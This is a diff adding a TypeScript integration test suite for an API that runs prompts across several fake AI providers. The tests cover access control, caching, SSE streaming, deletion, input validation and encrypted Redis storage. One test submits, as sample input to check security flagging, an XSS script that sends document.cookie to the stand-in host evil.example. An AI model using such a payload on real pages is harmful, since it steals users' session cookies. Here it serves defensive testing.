@@ -1,0 +1,341 @@
+import request from 'supertest';
+import { adminAuth, signIn, SignedIn } from './support/auth';
+import { FakeProvider, FakeProviders, startFakeProviders } from './support/fake-providers';
+import { startTestApp, TestApp } from './support/test-app';
+import { cooperative } from './support/wall-bounce-engine';
+
+const PEERS: FakeProvider[] = [
+  { name: 'peer-a', kind: 'openai', priceInputPer1M: 1, priceOutputPer1M: 2 },
+  { name: 'peer-b', kind: 'anthropic', priceInputPer1M: 1, priceOutputPer1M: 2 },
+  { name: 'peer-c', kind: 'gemini', priceInputPer1M: 1, priceOutputPer1M: 2 },
+];
+const ANSWERS = {
+  'peer-a': 'Use SET key value EX 60 so that the entry expires after sixty seconds.',
+  'peer-b': 'Set it with SET key value EX 60; Redis removes it after sixty seconds.',
+  'peer-c': 'Store it with SET and EX 60, or call EXPIRE on the key afterwards.',
+};
+
+/** Content no provider, prompt or key name contains: found in Redis only if stored in plaintext. */
+const marker = (): string => `needle-${Math.random().toString(36).slice(2, 12)}`;
+
+interface Event {
+  id: string;
+  type: string;
+  data: { seq: number; type: string; analysisId: string; data: Record<string, unknown> };
+}
+
+/** Reads a whole SSE response (the server ends it after completed/failed). */
+function parseSse(text: string): { events: Event[]; comments: string[] } {
+  const events: Event[] = [];
+  const comments: string[] = [];
+  for (const block of text.split('\n\n')) {
+    const fields: Record<string, string> = {};
+    for (const line of block.split('\n')) {
+      if (line.startsWith(':')) comments.push(line.slice(1).trim());
+      const m = /^(event|id|data): ?(.*)$/.exec(line);
+      if (m) fields[m[1]] = m[2];
+    }
+    if (fields.data)
+      events.push({ id: fields.id, type: fields.event, data: JSON.parse(fields.data) as never });
+  }
+  return { events, comments };
+}
+
+describe('analyses API (real engine, fake providers, real Redis)', () => {
+  let t: TestApp;
+  let fakes: FakeProviders;
+  let analyst: SignedIn;
+  let other: SignedIn;
+
+  beforeAll(async () => {
+    fakes = await startFakeProviders();
+    for (const p of PEERS) fakes.script(p.name, cooperative(ANSWERS));
+    t = await startTestApp(
+      fakes.env(PEERS, {
+        ROLE: 'all',
+        WALL_BOUNCE_AGGREGATOR: 'peer-a',
+        ANALYSIS_HEARTBEAT_MS: '100',
+      }),
+    );
+    analyst = await signIn(t, 'analyst');
+    other = await signIn(t, 'analyst');
+  });
+  afterAll(async () => {
+    await fakes?.close();
+    await t?.close();
+  });
+
+  const create = (who: { auth: object }, body: object, query = '') =>
+    request(t.server)
+      .post(`/api/v1/analyses${query}`)
+      .set(who.auth as Record<string, string>)
+      .send(body);
+
+  it('creates an analysis (202, Location, queued), runs it, and shows the result to its owner', async () => {
+    const content = `How should a cache entry expire? ${marker()}`;
+    const res = await create(analyst, { content, mode: 'parallel', cache: false });
+    expect(res.status).toBe(202);
+    expect(res.headers.location).toBe(`/api/v1/analyses/${res.body.id}`);
+    expect(res.body).toMatchObject({ mode: 'parallel', ownerId: analyst.userId });
+    expect(['queued', 'running', 'completed']).toContain(res.body.status);
+
+    const done = await request(t.server)
+      .post('/api/v1/analyses?wait=30')
+      .set(analyst.auth)
+      .send({ content: `${content} again`, cache: false });
+    expect(done.status).toBe(200);
+    expect(done.body.status).toBe('completed');
+    expect(done.body.result.answer).toContain('FINAL');
+    expect(done.body.result.providers.map((p: { name: string }) => p.name).sort()).toEqual([
+      'peer-a',
+      'peer-b',
+      'peer-c',
+    ]);
+    expect(done.body.result.usage.inputTokens).toBeGreaterThan(0);
+    expect(done.body.startedAt).toBeDefined();
+    expect(done.body.completedAt).toBeDefined();
+
+    const got = await request(t.server).get(`/api/v1/analyses/${done.body.id}`).set(analyst.auth);
+    expect(got.status).toBe(200);
+    expect(got.body).toEqual(done.body);
+  });
+
+  it('refuses viewers (403) and hides other users’ analyses (404); administrators see all', async () => {
+    const viewer = await signIn(t, 'viewer');
+    const refused = await create(viewer, { content: 'viewers may not submit' });
+    expect(refused.status).toBe(403);
+
+    const mine = await create(analyst, { content: `private ${marker()}` });
+    expect(mine.status).toBe(202);
+    for (const path of [
+      `/api/v1/analyses/${mine.body.id}`,
+      `/api/v1/analyses/${mine.body.id}/events`,
+    ]) {
+      const res = await request(t.server).get(path).set(other.auth);
+      expect(res.status).toBe(404);
+    }
+    expect(
+      (await request(t.server).delete(`/api/v1/analyses/${mine.body.id}`).set(other.auth)).status,
+    ).toBe(404);
+    const theirs = await request(t.server).get('/api/v1/analyses?limit=100').set(other.auth);
+    expect(theirs.body.items.map((a: { id: string }) => a.id)).not.toContain(mine.body.id);
+
+    const admin = await adminAuth(t);
+    expect(
+      (await request(t.server).get(`/api/v1/analyses/${mine.body.id}`).set(admin)).status,
+    ).toBe(200);
+    const all = await request(t.server).get('/api/v1/analyses?limit=100').set(admin);
+    expect(all.body.items.map((a: { id: string }) => a.id)).toContain(mine.body.id);
+  });
+
+  it('lets ci create and read its own analyses but not delete them (403)', async () => {
+    const ci = await signIn(t, 'ci');
+    const res = await create(ci, { content: `from a pipeline ${marker()}` }, '?wait=30');
+    expect(res.status).toBe(200);
+    expect(
+      (await request(t.server).get(`/api/v1/analyses/${res.body.id}`).set(ci.auth)).status,
+    ).toBe(200);
+    const del = await request(t.server).delete(`/api/v1/analyses/${res.body.id}`).set(ci.auth);
+    expect(del.status).toBe(403);
+    expect(del.headers['content-type']).toContain('application/problem+json');
+  });
+
+  it('lists own analyses newest first with a cursor and a status filter', async () => {
+    const user = await signIn(t, 'analyst');
+    const ids: string[] = [];
+    for (let i = 0; i < 5; i += 1) {
+      const res = await create(user, { content: `list item ${i} ${marker()}` }, '?wait=30');
+      expect(res.status).toBe(200);
+      ids.push(res.body.id);
+    }
+    const seen: string[] = [];
+    let cursor: string | null = null;
+    do {
+      const res: request.Response = await request(t.server)
+        .get(`/api/v1/analyses?limit=2${cursor ? `&cursor=${cursor}` : ''}`)
+        .set(user.auth);
+      expect(res.status).toBe(200);
+      expect(res.body.items.length).toBeLessThanOrEqual(2);
+      seen.push(...res.body.items.map((a: { id: string }) => a.id));
+      cursor = res.body.nextCursor;
+    } while (cursor);
+    expect(seen).toEqual([...ids].reverse());
+
+    const completed = await request(t.server)
+      .get('/api/v1/analyses?status=completed&limit=100')
+      .set(user.auth);
+    expect(completed.body.items).toHaveLength(5);
+    const queued = await request(t.server).get('/api/v1/analyses?status=queued').set(user.auth);
+    expect(queued.body).toEqual({ items: [], nextCursor: null });
+
+    const bad = await request(t.server)
+      .get('/api/v1/analyses?cursor=bm90LWEtY3Vyc29y')
+      .set(user.auth);
+    expect(bad.status).toBe(400);
+  });
+
+  it('answers an identical request of the same owner from cache, unless cache:false, never across owners', async () => {
+    const content = `cache me ${marker()}`;
+    const first = await create(analyst, { content }, '?wait=30');
+    expect(first.status).toBe(200);
+    expect(first.body.cached).toBe(false);
+    const calls = fakes.calls('peer-b').length;
+
+    const again = await create(analyst, { content }, '?wait=30');
+    expect(again.status).toBe(200);
+    expect(again.body.id).not.toBe(first.body.id);
+    expect(again.body.cached).toBe(true);
+    expect(again.body.result).toEqual(first.body.result);
+    expect(fakes.calls('peer-b').length).toBe(calls);
+
+    const otherMode = await create(analyst, { content, mode: 'sequential' }, '?wait=30');
+    expect(otherMode.body.cached).toBe(false);
+
+    const fresh = await create(analyst, { content, cache: false }, '?wait=30');
+    expect(fresh.body.cached).toBe(false);
+    expect(fakes.calls('peer-b').length).toBeGreaterThan(calls);
+
+    const stranger = await create(other, { content }, '?wait=30');
+    expect(stranger.status).toBe(200);
+    expect(stranger.body.cached).toBe(false);
+    expect(stranger.body.ownerId).toBe(other.userId);
+  });
+
+  it('accepts code in the content and flags it in the result', async () => {
+    const content = `Is this safe?\n<script>document.location='http://evil.example/?c='+document.cookie</script>\n${marker()}`;
+    const res = await create(analyst, { content, cache: false }, '?wait=30');
+    expect(res.status).toBe(200);
+    expect(res.body.status).toBe('completed');
+    const flags = res.body.result.security.flags.filter(
+      (f: { source: string }) => f.source === 'request',
+    );
+    expect(flags.length).toBeGreaterThan(0);
+    expect(res.body.result.security.deniedOperations).toEqual(['write', 'execute', 'modify']);
+  });
+
+  it('streams the events in order over SSE, also to a client that connects after the end', async () => {
+    const res = await create(analyst, { content: `stream me ${marker()}`, cache: false });
+    const live = await request(t.server)
+      .get(`/api/v1/analyses/${res.body.id}/events`)
+      .set(analyst.auth)
+      .buffer(true)
+      .parse((response, done) => {
+        let text = '';
+        response.on('data', (chunk: Buffer) => (text += chunk.toString()));
+        response.on('end', () => done(null, text));
+      });
+    expect(live.status).toBe(200);
+    expect(live.headers['content-type']).toContain('text/event-stream');
+    const { events } = parseSse(live.body as string);
+    const types = events.map((e) => e.type);
+    expect(types[0]).toBe('queued');
+    expect(types).toContain('started');
+    expect(types).toContain('provider_completed');
+    expect(types[types.length - 1]).toBe('completed');
+    expect(events.map((e) => e.data.seq)).toEqual(events.map((_, i) => i + 1));
+    expect(events.every((e) => e.id === String(e.data.seq))).toBe(true);
+
+    const late = await request(t.server)
+      .get(`/api/v1/analyses/${res.body.id}/events`)
+      .set(analyst.auth)
+      .buffer(true)
+      .parse((response, done) => {
+        let text = '';
+        response.on('data', (chunk: Buffer) => (text += chunk.toString()));
+        response.on('end', () => done(null, text));
+      });
+    expect(parseSse(late.body as string).events.map((e) => e.data.seq)).toEqual(
+      events.map((e) => e.data.seq),
+    );
+  });
+
+  it('sends heartbeats while an analysis waits', async () => {
+    fakes.script('peer-c', (call) => ({ ...cooperative(ANSWERS)(call), latencyMs: 700 }) as never);
+    try {
+      const res = await create(analyst, { content: `slow ${marker()}`, cache: false });
+      const stream = await request(t.server)
+        .get(`/api/v1/analyses/${res.body.id}/events`)
+        .set(analyst.auth)
+        .buffer(true)
+        .parse((response, done) => {
+          let text = '';
+          response.on('data', (chunk: Buffer) => (text += chunk.toString()));
+          response.on('end', () => done(null, text));
+        });
+      const { events, comments } = parseSse(stream.body as string);
+      expect(comments.some((c) => c.startsWith('heartbeat'))).toBe(true);
+      expect(events[events.length - 1].type).toBe('completed');
+    } finally {
+      fakes.script('peer-c', cooperative(ANSWERS));
+    }
+  });
+
+  it('deletes (204): cancels, erases content and result, and the analysis is gone', async () => {
+    const res = await create(analyst, { content: `erase me ${marker()}` }, '?wait=30');
+    const id = res.body.id as string;
+    const del = await request(t.server).delete(`/api/v1/analyses/${id}`).set(analyst.auth);
+    expect(del.status).toBe(204);
+    expect((await request(t.server).get(`/api/v1/analyses/${id}`).set(analyst.auth)).status).toBe(
+      404,
+    );
+    const record = await t.redis.client.hgetall(t.redis.key('analysis', `{${id}}`));
+    expect(record).toEqual({ status: 'cancelled', erased: '1' });
+    expect(await t.redis.client.exists(t.redis.key('analysis', `{${id}}`, 'events'))).toBe(0);
+    const list = await request(t.server).get('/api/v1/analyses?limit=100').set(analyst.auth);
+    expect(list.body.items.map((a: { id: string }) => a.id)).not.toContain(id);
+  });
+
+  it('validates the body: empty content, unknown properties, one provider, wait over 60', async () => {
+    expect((await create(analyst, { content: '' })).status).toBe(400);
+    expect((await create(analyst, { content: 'x', extra: 1 })).status).toBe(400);
+    expect((await create(analyst, { content: 'x', providers: ['peer-a'] })).status).toBe(400);
+    expect((await create(analyst, { content: 'x' }, '?wait=61')).status).toBe(400);
+    const tooBig = await create(analyst, { content: 'é'.repeat(512 * 1024 + 1) });
+    expect(tooBig.status).toBe(400);
+  });
+
+  it('keeps no submitted content in plaintext anywhere in Redis', async () => {
+    const needle = marker();
+    const res = await create(
+      analyst,
+      { content: `secret design notes ${needle}`, cache: false },
+      '?wait=30',
+    );
+    expect(res.body.status).toBe('completed');
+    let keys = 0;
+    for await (const batch of t.redis.scan(`${t.prefix}*`)) {
+      for (const key of batch) {
+        keys += 1;
+        const dump = await t.redis.client.dumpBuffer(key);
+        if (dump) expect(dump.includes(needle)).toBe(false);
+        const type = await t.redis.client.type(key);
+        const values =
+          type === 'string'
+            ? [await t.redis.client.get(key)]
+            : type === 'hash'
+              ? Object.values(await t.redis.client.hgetall(key))
+              : type === 'list'
+                ? await t.redis.client.lrange(key, 0, -1)
+                : type === 'zset'
+                  ? await t.redis.client.zrange(key, 0, -1)
+                  : type === 'set'
+                    ? await t.redis.client.smembers(key)
+                    : type === 'stream'
+                      ? (await t.redis.client.xrange(key, '-', '+')).flat(3)
+                      : [];
+        for (const v of values) expect(String(v)).not.toContain(needle);
+      }
+    }
+    expect(keys).toBeGreaterThan(5);
+  });
+
+  it('reports the queue and the providers in /health/ready and the queue metrics', async () => {
+    const ready = await request(t.server).get('/health/ready');
+    expect(ready.body.checks.queue.status).toBe('up');
+    expect(ready.body.checks.providers.status).toBe('up');
+    const metrics = await request(t.server).get('/metrics');
+    expect(metrics.text).toMatch(/^techsapo_wall_bounce_queue_length \d+$/m);
+    expect(metrics.text).toMatch(/^techsapo_concurrent_jobs \d+$/m);
+    expect(metrics.text).toMatch(/^techsapo_wall_bounce_duration_seconds_bucket\{le="0.1",/m);
+  });
+});
